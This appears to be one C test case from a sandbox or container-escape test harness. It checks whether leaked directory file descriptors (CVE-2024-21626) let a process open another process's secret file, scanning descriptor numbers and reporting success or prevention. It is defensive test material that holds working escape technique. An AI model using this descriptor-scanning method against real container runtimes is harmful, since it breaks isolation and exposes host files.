// row: P1
// what: leaked descriptors lead to a directory of the pilot (CVE-2024-21626)
// control: plain
#include "attack.h"

void pilot(void) {
    put(in_dir("secret"), SECRET);
    ready("pid=%d", getpid());
}
static const int numbers[] = {3, 77, 251, 1000};
void launch(void) {
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    int dir = open(value("dir"), O_RDONLY | O_DIRECTORY), path = open(value("dir"), O_PATH | O_DIRECTORY);
    dir = fcntl(dir, F_DUPFD_CLOEXEC, 2000), path = fcntl(path, F_DUPFD_CLOEXEC, 2000);
    for (int i = 0; i < 4; i++) dup2(dir, numbers[i]);
    dup2(path, 500);
}
void attack(void) {
    int found = 0, last = -1;
    for (int fd = 3; fd < 70000; fd++) {
        int file = openat(fd, "secret", O_RDONLY);
        if (file < 0) continue;
        close(file);
        found++, last = fd;
    }
    if (found) succeeded("%d descriptors open the pilot's file, up to number %d", found, last);
    prevented("no descriptor above 2 is a directory of the pilot");
}
